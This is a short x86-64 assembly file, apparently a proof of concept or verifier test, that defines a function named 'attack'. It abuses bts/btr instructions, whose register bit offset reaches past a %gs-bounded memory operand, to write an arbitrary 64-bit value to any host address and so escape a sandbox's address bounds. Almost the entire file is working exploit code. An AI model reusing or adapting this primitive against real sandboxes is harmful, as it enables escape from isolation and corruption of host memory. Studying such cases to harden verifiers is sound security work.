# btsgs.s: bts/btr with a register bit offset and a memory operand address
# base + (bitoffset >> 3), the bit offset a signed 64-bit register: the
# %gs:(%eax) operand (0x67, as the verifier wants) only bounds the base
# address. attack(addr, val) writes the 64-bit val at host address addr, bit
# by bit. The region base is computed from a %rip address (4 GiB-aligned).
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        leaq attack(%rip), %rax
        shrq $32, %rax
        shlq $32, %rax              # region base (= %gs base)
        subq %rax, %rdi             # offset of addr from the region base
        shlq $3, %rdi               # as a bit offset
        xorl %eax, %eax
        movl $64, %ecx
1:
        btrq %rdi, %gs:(%eax)       # clear bit
        shrq $1, %rsi
        jnc 2f
        btsq %rdi, %gs:(%eax)       # set bit
2:
        incq %rdi
        decl %ecx
        jnz 1b
        ret

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
